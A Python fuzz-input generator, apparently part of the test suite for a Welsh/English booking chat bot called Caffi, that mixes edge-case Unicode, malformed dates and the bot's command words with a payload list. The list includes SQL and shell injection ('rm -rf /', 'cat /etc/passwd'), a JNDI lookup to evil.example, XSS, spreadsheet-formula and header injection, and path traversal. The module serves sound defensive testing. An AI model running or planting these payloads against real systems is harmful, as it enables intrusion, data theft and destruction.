"""What an attacker types: pieces that broke other programs, alone, repeated, among real words."""

import random
from collections.abc import Iterator

OVERRIDES = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"

PIECES = (
    # Nothing, and letters that no database or browser likes.
    "",
    " ",
    "\n",
    "\r\n",
    "\t",
    "\x00",
    "\x07",
    "\x1b[2J",
    "\x7f",
    "\x85",
    "\u2028",
    "\ufeff",
    "\ufffe",
    "\ud800",
    "\udfff",
    "\ud83d",
    "\udc00\ud800",
    "\U0010ffff",
    "\u200b",
    "\u00ad",
    "\u3164",
    "\u2800",
    # Direction, piles of accents, joined emoji.
    "\u202e txt.exe",
    "\u2067שלום\u2069",
    "\u202d\u202e\u202c",
    "مرحبا بالجميع",
    "abc\u200fdef\u200e",
    "Z\u0351\u0343\u0344\u0345\u0346\u0347\u0348\u0349a\u0300\u0301\u0302\u0303l\u035bg\u0336o\u0489",
    "👩🏽\u200d🍳",
    "🏴\U000e0067\U000e0062\U000e0077\U000e006c\U000e0073\U000e007f",
    "\u200d",
    "\ufe0f",
    "👨‍👩‍👧‍👦",
    # Injections.
    "'; DROP TABLE sessions;--",
    "' OR '1'='1",
    "\\'; SELECT pg_sleep(9);--",
    "%",
    "_%_",
    "\\",
    "\\x00",
    "$(reboot)",
    "`id`",
    "; rm -rf / #",
    "| cat /etc/passwd",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "{{DATE()}}",
    "{% raw %}",
    "{title}",
    "{0.__class__}",
    "{}",
    "{n!r:>9999}",
    "%s%n%d",
    "%(name)s",
    "<script>alert(1)</script>",
    "</title></textarea></style><svg/onload=alert(1)>",
    '" autofocus onfocus="alert(1)',
    "' onmouseover='alert(1)",
    "<img src=x onerror=alert(1)>",
    "<!--",
    "]]>",
    "<![CDATA[",
    "&lt;b&gt;&#0;",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    'https://evil.example/"><b>',
    "//evil.example",
    "[here](javascript:alert(1))",
    "![x](https://evil.example/x.png)",
    "<https://evil.example|pay>",
    "<!channel>",
    "<!here|here>",
    "<!everyone>",
    "<!subteam^S1>",
    "<!date^0^{date}^javascript:x|x>",
    "<@UNIA>",
    "<@U0|nia>",
    "<#CLEARNING|learning>",
    "@everyone",
    "*b* _i_ ~s~ `c` ```x```",
    "> q",
    ":tada:",
    "&amp;lt;!channel&amp;gt;",
    '=HYPERLINK("https://evil.example")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "X-Header: y\r\nSet-Cookie: z=1",
    "\nlevel=error event=bug",
    "../../etc/passwd",
    "..%2f..%2f",
    "file:///etc/passwd",
    "\\\\evil\\share",
    "con",
    "null",
    "None",
    "NaN",
    "undefined",
    # Numbers and moments.
    "9" * 400,
    "-1",
    "0",
    "00012",
    "1e309",
    "٣",
    "²",
    "Ⅻ",
    "0x7fffffffffffffff",
    "9223372036854775808",
    "12" * 10,
    "99999-99-99",
    "0000-00-00",
    "2026-02-30",
    "31/02/2026",
    "30/30/30",
    "25:61",
    "24:00",
    "1/1/0001",
    "9999-12-31",
    "next week " * 9,
    "in 99999999999 weeks",
    "last week of 0 months",
    "the Tuesday after the week before next",
    "between 9 and 8",
    "from friday to monday",
    "february 30th",
    "week 99",
    "y dydd cyn ddoe",
    # Shapes on which a careless pattern takes for ever.
    "a" * 300 + "!",
    "1" * 300 + "x",
    " " * 300 + "x",
    "a@" * 100,
    ".com" * 80,
    "1-" * 120,
    "learn " * 60,
    "((((" * 60,
    "me a place on " * 20,
    "<|" * 100,
    "@caffi" * 40,
    "a1" * 150,
    "one one one one " * 20,
    "'" * 200,
    "-.-." * 60,
)

WORDS = (
    "book",
    "cancel",
    "what's on",
    "mine",
    "details",
    "feedback",
    "digest weekly monday 9am topic:",
    "digest pause",
    "follow",
    "unfollow",
    "settings",
    "undo",
    "help",
    "home",
    "share",
    "problems",
    "english",
    "thanks and",
    "12",
    "13",
    "archebu",
    "canslo",
    "beth sydd ymlaen",
    "fy lleoedd",
    "manylion",
    "adborth",
    "crynodeb wythnosol dydd llun 9yb pwnc:",
    "dilyn",
    "gosodiadau",
    "dadwneud",
    "cymorth",
    "hafan",
    "rhannu",
    "problemau",
    "cymraeg",
    "diolch a",
    "mindful",
    "excel",
    "next week",
    "tomorrow at",
    "yfory",
    "in cardiff",
    "am ddim",
    "please",
    "os gwelwch yn dda",
)

LONG = 40_000


def hostile(chance: random.Random) -> str:
    """One thing that somebody might send."""
    pieces = [
        chance.choice(PIECES) if chance.random() < 0.6 else chance.choice(WORDS)
        for _ in range(chance.choice((1, 1, 2, 3, 5, 8)))
    ]
    text = chance.choice((" ", "", " ", "\n")).join(pieces)
    if chance.random() < 0.1:
        text = "".join(
            chr(chance.choice((chance.randrange(0x300), chance.randrange(0x110000)))) for _ in range(20)
        )
    if chance.random() < 0.02:
        text = (text or "x") * (LONG // max(1, len(text)) + 1)
        text = text[:LONG]
    return text


def spoken(chance: random.Random) -> str:
    """Something hostile behind a word that Caffi knows."""
    return f"{chance.choice(WORDS)} {hostile(chance)}"


def chances(seed: int, times: int) -> Iterator[random.Random]:
    """One source of chance for each try, so that any of them can be had again by itself."""
    for each in range(times):
        yield random.Random(f"{seed}/{each}")
